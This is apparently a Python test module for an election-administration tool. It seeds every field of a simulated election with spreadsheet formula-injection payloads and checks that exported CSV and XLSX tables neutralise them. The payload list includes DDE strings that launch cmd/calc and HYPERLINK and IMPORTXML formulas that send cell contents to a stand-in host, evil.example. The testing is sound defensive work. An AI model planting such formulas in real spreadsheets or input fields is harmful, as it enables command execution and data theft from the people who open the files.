"""Texts that a spreadsheet would take for a formula, in every field that somebody else fills in (SECURITY 9, row 13).

The writers are given each payload in each place of a table. And an election is held whose doctors, practices,
candidates, people, titles and reasons are all called so: whatever table its commands write is then read cell by cell.
"""

import contextlib
import csv
import io
import json
import shutil
from collections.abc import Iterable, Iterator, Sequence
from datetime import UTC, datetime
from itertools import product
from pathlib import Path

from openpyxl import load_workbook

from lmcvote import sheet
from lmcvote.packs.numbers import written
from tests.assured import Ran
from tests.cli.asking import AT, TWO, at
from tests.cli.nominating import without_candidates

STARTS = ("=", "+", "-", "@", "\t=", "\r=", "\n=", "\0=", "＝", "＋", "－", "＠")  # noqa: RUF001 -- the full-width forms
BODIES = (
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://evil.example/"&A1,"Click")',
    'IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
    'DDE("cmd";"/C calc";"x")',
)
PAYLOADS = tuple(start + body for start, body in product(STARTS, BODIES))
"""Sixty."""
TYPED = tuple(text for text in PAYLOADS if text.isascii() and text.isprintable() and len(text) < 20)
"""Those that an election may hold: lists refuse the others, papers have no letters for the full-width ones, and a long
one has no room on a paper or in the window of an envelope."""
EVALUATED = ("=", "+", "-", "@", "\t", "\r", "\n", "\0", "＝", "＋", "－", "＠")  # noqa: RUF001 -- the same
PLAIN, FILLED = "Ash", ("one", "two", "three")


def tables(data: bytes, name: str) -> Iterator[tuple[str, object]]:
    """Each cell of a CSV or a workbook with its kind: `s` a text, `n` a number, `f` a formula."""
    if name.endswith(".xlsx"):
        for page in load_workbook(io.BytesIO(data)).worksheets:
            yield from ((cell.data_type, cell.value) for row in page.iter_rows() for cell in row)
    else:
        rows = csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""))
        yield from (("s", cell) for row in rows for cell in row)


def evaluated(data: bytes, name: str) -> list[str]:
    """The cells that a spreadsheet would work out."""
    return [
        str(text)
        for kind, text in tables(data, name)
        if kind == "f" or (isinstance(text, str) and text.startswith(EVALUATED) and not _number(text))
    ]


def _number(text: str) -> bool:
    """-3 is no formula."""
    return text.removeprefix("-").isdigit()


def written_tables(payloads: Sequence[str] = PAYLOADS) -> Ran:
    """Each payload in each cell of a table, its headings too, in both forms; a person's list is read back as it was."""
    tried, failures = 0, list[str]()
    for payload, place in product(payloads, range(6)):
        cells = [payload if place == nth else text for nth, text in enumerate((*FILLED, *FILLED))]
        for kind, writes in (("csv", sheet.csv_bytes), ("xlsx", sheet.xlsx_bytes)):
            if kind == "xlsx" and ("\0" in payload or place % 4):
                continue  # no workbook can hold a NUL; and it takes its time
            tried += 1
            data = writes(cells[:3], [cells[3:]])
            failures += [f"{kind}, place {place}: {cell!r}" for cell in evaluated(data, f"x.{kind}")]
            texts = [str(text).replace("\n", payload[0]) for _, text in tables(data, f"x.{kind}")]  # XML has no CR
            if texts != [f"'{one}" if one == payload else one for one in cells]:
                failures.append(f"{kind}, place {place}: {payload!r} is written as {texts[place]!r}")
    return Ran(tried, tuple(failures))


# -- an election of payloads -------------------------------------------------------------------------------------------


class Names:
    """Another payload each time."""

    def __init__(self, turn: int) -> None:
        """Beginning with this one."""
        self._all = [*TYPED[turn:], *TYPED[:turn]]
        self._drawn = 0

    def one(self, plain: str) -> str:
        """The next one, with something plain behind it."""
        self._drawn += 1
        return f"{self._all[self._drawn % len(self._all)]} {plain}"


def poison(folder: Path, turn: int) -> None:
    """Lists, practices, addresses, forms and settings of an election folder, all of them payloads."""
    names, lists = Names(turn), folder / "lists"
    with (lists / "performers.csv").open(encoding="utf-8-sig") as file:
        plain = [(row["GMC Number"], row["Surname"], row["Forenames"]) for row in csv.DictReader(file)][:DOCTORS]
    people = [(gmc, names.one(surname), names.one(forename)) for gmc, surname, forename in plain]
    _write(lists / "performers.csv", ("GMC Number", "Surname", "Forenames", "Performer Type", "Practice Code"),
           ((*one, "Salaried", "F81011") for one in people))  # fmt: skip
    _write(lists / "equip.csv", ("GMC No", "Surname", "Forename", "Role", "Practice Code", "CCG"),
           ((*one, "Salaried GP", "F81011", "06Q") for one in people[:-1]))  # fmt: skip
    _write(Path("doubt.csv"), ("GMC No", "Surname", "Forename", "Role", "Practice Code"),
           (("7654321", *people[0][1:], "Salaried GP", "F81011"),))  # fmt: skip
    _write(lists / "addresses.csv", ("gmc_number", "surname", "forename", "address_1", "address_2", "postcode"),
           ((*people[0], names.one("4 Ferry Lane"), names.one("Maldon"), "CM9 5AA"),))  # fmt: skip
    heads = ("gmc_number", "surname", "forenames", "practice", "received", "consent", "eligibility", "holds")
    _write(lists / "nominations.csv", heads,
           ((*one, names.one("Surgery"), "2027-01-20 10:00", "yes", "yes", "none")
            for one in people[:STANDING]))  # fmt: skip
    with (lists / "practices.csv").open(encoding="utf-8", newline="") as file:
        rows = [[row[0], names.one(row[1]), *row[2:4], *(names.one(cell[:12]) for cell in row[4:8]), *row[8:]]
                for row in csv.reader(file)]  # fmt: skip
    _write(lists / "practices.csv", (), rows)
    shutil.rmtree(folder / "statements", ignore_errors=True)
    path = without_candidates(folder) / "election.toml"
    path.write_text("\n".join(_called(line, names) for line in path.read_text("utf-8").splitlines()), "utf-8")


def _called(line: str, names: Names) -> str:
    """A line of the settings; a title or the name of a group is a payload."""
    key, _, value = line.partition(" = ")
    if key not in TITLES:
        return line
    return f"{key} = {json.dumps(names.one(value.split(chr(34))[1][:WIDE]), ensure_ascii=False)}"


def _write(path: Path, headings: Sequence[str], rows: Iterable[Sequence[str]]) -> None:
    with path.open("w", newline="", encoding="utf-8") as out:
        csv.writer(out).writerows([*([headings] if headings else []), *rows])


DOCTORS, STANDING, BACK = 56, 12, 42
WIDE = 20
"""Letters of a title beside a payload: more have no room on a paper."""
TITLES = ("title", "body", "telephone", "scrutineer_contact", "06Q", "06T", "07H")
REEVE, WATCHED = ("--by", "Alan Reeve"), ("--by", "Alan Reeve", "--by", "Joyce Hammond")
NAMED, BODY, WHAT = "=1+1 Jane Ashby", "+1+1 Board", "@1+1 Director of a company"
DOUBTFUL = ("--performers", "e/lists/performers.csv", "--equip", "doubt.csv", "--as-at", "2027-01-20")
"""Lists with a case."""
ALONE = {"--seats", "--equip"}
"""Of commands that ask for no election folder."""
STEPS: tuple[tuple[str, tuple[str, ...]], ...] = (
    ("2027-01-20", ("electorate", "build", "--as-at", "2027-01-20")),
    ("2027-01-20", ("electorate", "build", *DOUBTFUL, "-o", "roll.xlsx")),
    ("2027-01-20", ("electorate", "review", "-o", "review.csv")),
    ("2027-01-20", ("nominations", "letters", *REEVE)),
    ("2027-01-25", ("nominations", "add", "e/lists/nominations.csv", *REEVE)),
    ("2027-02-03T12:00", ("nominations", "close", *WATCHED)),
    ("2027-02-04", ("electorate", "freeze", *REEVE)),
    ("2027-02-04", ("electorate", "export")),
    ("2027-02-05", ("ballots", "proof", "--signed-by", "Alan Reeve", "--signed-by", "Joyce Hammond")),
    ("2027-02-05", ("ballots", "print", "--spares", "10")),
    ("2027-02-08", ("ballots", "print-confirm", *TWO)),
    ("2027-02-22", ("ballots", "packs", *TWO)),
    ("2027-03-11", ("returns", "record", "back.csv", *TWO)),
    ("2027-03-12", ("returns", "reminders", *REEVE)),
    ("2027-03-12", ("returns", "letters", *REEVE)),
    ("2027-03-12", ("custody", "close", "returns-1", "--seal", "0412", *TWO)),
    ("2027-03-15T14:00", ("returns", "close", *TWO)),
    ("2027-03-15T14:10", ("ballots", "account", "--unissued", "10", "--waste", "0")),
    ("2027-03-16T10:00", ("custody", "open", "returns-1", "--seal", "0412", *TWO)),
    ("2027-03-16T10:10", ("opening", "record", "--papers", str(BACK), *TWO)),
    ("2027-03-16T11:00", ("tally", "sheets", "--batch", "20")),
    ("2027-03-16T11:00", ("count", "votes.csv", "--by", "Priya Nair")),
    ("2027-03-16T12:00", ("count", "other.csv", "--by", "Owen Bell")),
    ("2027-03-16T12:00", ("count", "named.csv", "--seats", "2", "--export", "wide.csv")),
    ("2027-03-16T12:10", ("declare",)),
    ("2027-03-16T12:20", ("declare", "--signed-by", "Alan Reeve", "--signed-by", "Joyce Hammond")),
    ("2027-03-16T12:30", ("vacancy", "book")),
    ("2027-03-16T12:40", ("audit", "export", "stick", "--format", "arlo", "--manifest", "piles.csv", *TWO)),
    ("2027-04-01", ("interests", "member", "--name", NAMED, "--body", BODY, "--took-office", "2027-04-01", *REEVE)),
    ("2027-04-02", ("interests", "declare", "--member", NAMED, "--kind", "director", "--what", WHAT, *REEVE)),
    ("2027-04-02", ("interests", "publish")),
)
"""Commands of an election that write tables, and those that lead to them; with their days."""


def held(turn: int) -> dict[str, bytes]:
    """An election of payloads, beside which the process stands: every table that its commands wrote, by name."""
    with quiet():
        assert _on("2027-01-11", "new", "e") == 0
    poison(Path("e"), turn)
    names = Names(turn)
    _write(Path("back.csv"), ("number", "received_on"), ((written(n, 1), "2027-03-10") for n in range(1, BACK + 1)))
    votes = Path("e/lists/votes.csv").read_text("utf-8-sig").splitlines()
    Path("votes.csv").write_text("\n".join(votes), "utf-8")
    Path("other.csv").write_text("\n".join([votes[0], *votes[:0:-1]]), "utf-8")
    given = ("paper", *(names.one(str(nth)) for nth in range(3)))
    _write(Path("named.csv"), given, (("1", "1", "", ""), ("2", "", "1", "1")))
    _write(Path("piles.csv"), ("pile", "papers"), (("box-1", str(BACK)),))
    Path("stick").mkdir()
    before = set(Path().rglob("*"))
    for day, argv in STEPS:
        with quiet() as said:
            code = _on(day, *argv, *(() if ALONE & {*argv} else AT))
        assert code == 0, (argv, said.getvalue())
    made = sorted(path for path in {*Path().rglob("*")} - before if path.suffix in (".csv", ".xlsx"))
    return {path.as_posix(): path.read_bytes() for path in made}


@contextlib.contextmanager
def quiet() -> Iterator[io.StringIO]:
    """What is said here is kept and not shown."""
    said = io.StringIO()
    with contextlib.redirect_stdout(said), contextlib.redirect_stderr(said):
        yield said


def _on(day: str, *argv: str) -> int:
    return at(datetime.fromisoformat(day).replace(tzinfo=UTC), *argv)


def elections(turns: int, place: Path) -> Ran:
    """Elections of payloads, each begun with another one."""
    tried, failures, found = 0, list[str](), set[str]()
    for turn in range(turns):
        (place / str(turn)).mkdir()
        with contextlib.chdir(place / str(turn)):
            made = held(turn)
        for name, data in made.items():
            cells = list(tables(data, name))
            tried += len(cells)
            found |= {name} if any(str(text).startswith("'") for _, text in cells) else set()
            failures += [f"turn {turn}, {name}: {text!r}" for text in evaluated(data, name)]
        shutil.rmtree(place / str(turn))
    failures += [
        f"{name} has no payload: nothing was tried" for name in WITH_PAYLOADS - {Path(one).name for one in found}
    ]
    return Ran(tried, tuple(failures), f"{len(found)} tables with payloads")


WITH_PAYLOADS = frozenset(
    "cases.csv electorate.csv roll.xlsx letters-1.csv persons-nominated.csv register.csv register.xlsx "
    "register-frozen.csv mail-merge.xlsx mail-merge-1.xlsx register-frozen.csv mid-essex-board-1-provisional.csv "
    "mid-essex-board-2-declared.csv mid-essex-board-runners-up.csv wide.csv mid-essex-board-arlo-cvr.csv".split()
)
"""Files that would hold a formula, were it not for the guard."""
